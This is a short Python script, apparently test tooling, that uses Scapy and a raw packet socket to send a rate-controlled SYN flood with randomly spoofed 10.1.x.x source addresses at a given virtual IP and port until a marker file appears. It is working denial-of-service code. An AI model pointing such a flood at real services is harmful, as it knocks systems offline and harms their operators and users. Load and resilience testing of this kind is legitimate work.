#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""syn_flood — SYNs to a service from sources that do not exist, until a file exists.

usage: syn_flood.py INTERFACE MAC VIP PORT PER_SECOND UNTIL

Frames go out by a packet socket, so only this network sees them. Prints one JSON object: sent, seconds.
"""
import json
import logging
import os
import random
import socket
import sys
import time

logging.getLogger("scapy").setLevel(logging.ERROR)
from scapy.all import IP, TCP, Ether, raw  # noqa: E402

interface, mac, vip, port, per_second, until = sys.argv[1:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((interface, 0))
frames = [raw(Ether(src="02:aa:00:00:99:99", dst=mac)
              / IP(src=f"10.1.{random.randrange(1, 200)}.{random.randrange(1, 255)}", dst=vip)
              / TCP(sport=random.randrange(1024, 65536), dport=int(port), seq=random.getrandbits(32), flags="S",
                    options=[("MSS", 1460)])) for _ in range(20000)]
start, sent = time.monotonic(), 0
while not os.path.exists(until):
    due = int((time.monotonic() - start) * int(per_second)) - sent
    for _ in range(min(due, 500)):
        out.send(frames[sent % len(frames)])
        sent += 1
    if due < 10:
        time.sleep(0.002)
print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 1)}))
